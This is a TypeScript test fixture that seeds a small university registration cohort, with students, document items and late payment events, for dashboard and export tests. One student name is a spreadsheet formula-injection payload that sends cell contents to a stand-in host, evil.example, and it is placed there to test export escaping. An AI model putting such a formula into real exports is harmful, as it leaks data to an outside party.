/**
 * A small cohort written straight into the read model (as the projection
 * would have), at a fixed "now", for the dashboard, export and Review next
 * tests. The tests' expected figures are worked out by hand from this table,
 * in the tests themselves.
 *
 * Now: Wednesday 18 August 2027, 12:00 HKT (no Hong Kong public holiday in
 * August 2027). Payment deadline: end of Thu 19 Aug; registration deadline:
 * end of Fri 20 Aug. Every student is admitted on Mon 9 Aug, 10:00 HKT, except
 * S6 (Wed 11 Aug).
 *
 * | # | category               | program   | status      | items (state, Hong Kong day in)                                                                  |
 * |---|------------------------|-----------|-------------|---------------------------------------------------------------------------------------------------|
 * | 1 | UG-JUPAS-LOCAL         | BSC-COMP  | COMPLETED   | ACTIVATION ✓9, FORM ✓10, ID ✓ (sub 11, rev 12), PHOTO ✓ (sub 12)                                    |
 * | 2 | UG-NON_JUPAS-LOCAL     | BBA-FINA  | IN_PROGRESS | ACTIVATION ✓9, FORM ✓10, ID submitted Tue 10 (due end of Tue 17: breached), RECEIPT pending, PHOTO pending |
 * | 3 | TPG-NON_LOCAL          | MSC-IT    | IN_PROGRESS | ACTIVATION ✓9, FORM ✓9, ID submitted Mon 16, VISA rejected (sub 12, rev 13), PHOTO submitted Wed 18, FINAL_TRANSCRIPT pending |
 * | 4 | RPG-LOCAL              | PHD-CSE   | IN_PROGRESS | ACTIVATION ✓9, FORM ✓10, ID submitted Fri 13, PHOTO pending                                          |
 * | 5 | UG-JUPAS-LOCAL         | BSC-COMP  | WITHDRAWN   | declined Thu 12; everything pending                                                               |
 * | 6 | UG-NON_JUPAS-NON_LOCAL | BENG-ELEC | IN_PROGRESS | ACTIVATION ✓12, FORM pending, ID pending, VISA waived (rev 13), PHOTO pending                       |
 *
 * S6's name is hostile (a spreadsheet formula), for the export's injection test;
 * S4's name has a non-ASCII letter (Ü), for the export's encoding test.
 *
 * Late events: S5 (withdrawn) paid twice after declining (Fri 13 and Mon 16), and
 * S1 (completed) activated an account again on Tue 17: 2 payments (WITHDRAWN) and 1
 * activation (COMPLETED).
 */
import type { Prisma } from '@prisma/client';
import type { PrismaClient } from '../../src/db/prisma';
import { defaultCohortPolicy } from '../../workflows/registration/api';
import { seedOutstandingCounts } from '../kit/outstanding-counts';
import { createRegistration } from './registration-row';

export const DASHBOARD_NOW = new Date('2027-08-18T04:00:00.000Z');
export const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';

/** An instant on a Hong Kong day of August 2027. */
const hk = (day: number, time = '10:00') => new Date(`2027-08-${String(day).padStart(2, '0')}T${time}:00.000+08:00`);
/** End of a Hong Kong day (the service level's "due by"). */
const endOf = (day: number) => new Date(hk(day + 1, '00:00').getTime());

type Item = { key: string; kind?: string; compulsory?: boolean; state: string; submittedAt?: Date; reviewedAt?: Date; expectedVerificationBy?: Date };

export interface SeededCohort {
  cohortId: string;
  /** Application numbers S1…S6 in the table's order. */
  no: string[];
}

export async function seedDashboardCohort(prisma: PrismaClient, cohortId: string, prefix: string): Promise<SeededCohort> {
  const registrationDeadline = new Date('2027-08-20T15:59:59.999Z');
  const paymentDeadline = new Date('2027-08-19T15:59:59.999Z');
  await prisma.cohort.create({
    data: {
      id: cohortId,
      registrationDeadline,
      paymentDeadline,
      policy: defaultCohortPolicy(registrationDeadline.toISOString(), { paymentDeadline: paymentDeadline.toISOString() }) as unknown as Prisma.InputJsonValue,
    },
  });
  const no = [1, 2, 3, 4, 5, 6].map((i) => `${prefix}${i}`);
  const compulsory = new Set(['ACTIVATION', 'FORM', 'ID_DOCUMENT', 'VISA', 'TUITION_RECEIPT']);
  const students: Array<{
    name: string;
    programCode: string;
    studyLevel: string;
    admissionRoute: string | null;
    residency: string;
    status: string;
    outcomeReason: string | null;
    createdAt: Date;
    /** As the projection sets them (activities/projection.ts). */
    outcomeAt?: Date;
    compulsoryInAt?: Date;
    cardReady?: boolean;
    items: Item[];
  }> = [
    {
      name: 'CHAN Tai Man',
      programCode: 'BSC-COMP',
      studyLevel: 'UG',
      admissionRoute: 'JUPAS',
      residency: 'LOCAL',
      status: 'COMPLETED',
      outcomeReason: 'ALL_ITEMS_VERIFIED',
      createdAt: hk(9),
      outcomeAt: hk(12, '15:00'),
      compulsoryInAt: hk(11),
      cardReady: true,
      items: [
        { key: 'ACTIVATION', state: 'VERIFIED', submittedAt: hk(9, '11:00'), reviewedAt: hk(9, '11:00') },
        { key: 'FORM', state: 'VERIFIED', submittedAt: hk(10), reviewedAt: hk(10) },
        { key: 'ID_DOCUMENT', state: 'VERIFIED', submittedAt: hk(11), reviewedAt: hk(12) },
        { key: 'PHOTO', state: 'VERIFIED', submittedAt: hk(12), reviewedAt: hk(12, '15:00') },
      ],
    },
    {
      name: 'WONG Ka Yan',
      programCode: 'BBA-FINA',
      studyLevel: 'UG',
      admissionRoute: 'NON_JUPAS',
      residency: 'LOCAL',
      status: 'IN_PROGRESS',
      outcomeReason: null,
      createdAt: hk(9),
      items: [
        { key: 'ACTIVATION', state: 'VERIFIED', submittedAt: hk(9, '12:00'), reviewedAt: hk(9, '12:00') },
        { key: 'FORM', state: 'VERIFIED', submittedAt: hk(10), reviewedAt: hk(10) },
        { key: 'ID_DOCUMENT', state: 'SUBMITTED', submittedAt: hk(10, '09:00'), expectedVerificationBy: endOf(17) },
        { key: 'TUITION_RECEIPT', state: 'PENDING' },
        { key: 'PHOTO', state: 'PENDING' },
      ],
    },
    {
      name: 'ZHANG Wei',
      programCode: 'MSC-IT',
      studyLevel: 'TPG',
      admissionRoute: null,
      residency: 'NON_LOCAL',
      status: 'IN_PROGRESS',
      outcomeReason: null,
      createdAt: hk(9),
      items: [
        { key: 'ACTIVATION', state: 'VERIFIED', submittedAt: hk(9, '13:00'), reviewedAt: hk(9, '13:00') },
        { key: 'FORM', state: 'VERIFIED', submittedAt: hk(9, '14:00'), reviewedAt: hk(9, '14:00') },
        { key: 'ID_DOCUMENT', state: 'SUBMITTED', submittedAt: hk(16), expectedVerificationBy: endOf(23) },
        { key: 'VISA', state: 'REJECTED', submittedAt: hk(12), reviewedAt: hk(13) },
        { key: 'PHOTO', state: 'SUBMITTED', submittedAt: hk(18, '09:30'), expectedVerificationBy: endOf(25) },
        { key: 'SUPPLEMENTARY:FINAL_TRANSCRIPT', kind: 'SUPPLEMENTARY', compulsory: false, state: 'PENDING' },
      ],
    },
    {
      name: 'MÜLLER Anna',
      programCode: 'PHD-CSE',
      studyLevel: 'RPG',
      admissionRoute: null,
      residency: 'LOCAL',
      status: 'IN_PROGRESS',
      outcomeReason: null,
      createdAt: hk(9),
      compulsoryInAt: hk(13),
      items: [
        { key: 'ACTIVATION', state: 'VERIFIED', submittedAt: hk(9, '15:00'), reviewedAt: hk(9, '15:00') },
        { key: 'FORM', state: 'VERIFIED', submittedAt: hk(10), reviewedAt: hk(10) },
        { key: 'ID_DOCUMENT', state: 'SUBMITTED', submittedAt: hk(13), expectedVerificationBy: endOf(20) },
        { key: 'PHOTO', state: 'PENDING' },
      ],
    },
    {
      name: 'HO Siu Ming',
      programCode: 'BSC-COMP',
      studyLevel: 'UG',
      admissionRoute: 'JUPAS',
      residency: 'LOCAL',
      status: 'WITHDRAWN',
      outcomeReason: 'DECLINED',
      createdAt: hk(9),
      outcomeAt: hk(12),
      items: [
        { key: 'ACTIVATION', state: 'PENDING' },
        { key: 'FORM', state: 'PENDING' },
        { key: 'ID_DOCUMENT', state: 'PENDING' },
        { key: 'PHOTO', state: 'PENDING' },
      ],
    },
    {
      name: HOSTILE_NAME,
      programCode: 'BENG-ELEC',
      studyLevel: 'UG',
      admissionRoute: 'NON_JUPAS',
      residency: 'NON_LOCAL',
      status: 'IN_PROGRESS',
      outcomeReason: null,
      createdAt: hk(11),
      items: [
        { key: 'ACTIVATION', state: 'VERIFIED', submittedAt: hk(12), reviewedAt: hk(12) },
        { key: 'FORM', state: 'PENDING' },
        { key: 'ID_DOCUMENT', state: 'PENDING' },
        { key: 'VISA', state: 'WAIVED', reviewedAt: hk(13) },
        { key: 'PHOTO', state: 'PENDING' },
      ],
    },
  ];
  for (const [i, s] of students.entries()) {
    const applicationNo = no[i]!;
    await createRegistration(prisma, {
      applicationNo,
      cohortId,
      name: s.name,
      programCode: s.programCode,
      studyLevel: s.studyLevel,
      admissionRoute: s.admissionRoute,
      residency: s.residency,
      status: s.status,
      outcomeReason: s.outcomeReason,
      registrationDeadline,
      paymentDeadline,
      outstandingItems: s.items.filter((x) => x.state !== 'VERIFIED' && x.state !== 'WAIVED').map((x) => x.key),
      cardReady: s.cardReady ?? false,
      outcomeAt: s.outcomeAt ?? null,
      compulsoryInAt: s.compulsoryInAt ?? null,
      seq: 20,
      createdAt: s.createdAt,
      items: {
        create: s.items.map((x) => ({
          key: x.key,
          kind: x.kind ?? x.key,
          label: x.key,
          compulsory: x.compulsory ?? compulsory.has(x.key),
          state: x.state,
          submittedAt: x.submittedAt ?? null,
          reviewedAt: x.reviewedAt ?? null,
          expectedVerificationBy: x.expectedVerificationBy ?? null,
          // The registration's fields, as the projection copies them onto its items.
          cohortId,
          programCode: s.programCode,
          studyLevel: s.studyLevel,
          registrationStatus: s.status,
        })),
      },
    });
  }
  await seedOutstandingCounts(prisma, cohortId);
  await prisma.auditEvent.createMany({
    data: [
      { registrationNo: no[0]!, seq: 9, type: 'STATUS_CHANGED', actor: 'system', at: hk(12, '15:00'), data: { status: 'COMPLETED' } },
      { registrationNo: no[4]!, seq: 2, type: 'OFFER_DECLINED', actor: `student:${no[4]}`, at: hk(12), data: {} },
      { registrationNo: no[4]!, seq: 3, type: 'STATUS_CHANGED', actor: 'system', at: hk(12), data: { status: 'WITHDRAWN' } },
    ],
  });
  const late = (registrationNo: string, seq: number, kind: string, day: number, registrationStatus: string, outcomeReason: string) => ({
    registrationNo,
    seq,
    kind,
    actor: kind === 'PAYMENT' ? 'payment' : 'idp',
    at: hk(day),
    registrationStatus,
    outcomeReason,
    deliveryKey: `${kind}:${registrationNo}:${seq}`,
    data: {},
  });
  await prisma.lateEvent.createMany({
    data: [
      late(no[4]!, 21, 'PAYMENT', 13, 'WITHDRAWN', 'DECLINED'),
      late(no[4]!, 22, 'PAYMENT', 16, 'WITHDRAWN', 'DECLINED'),
      late(no[0]!, 21, 'ACTIVATION', 17, 'COMPLETED', 'ALL_ITEMS_VERIFIED'),
    ],
  });
  return { cohortId, no };
}
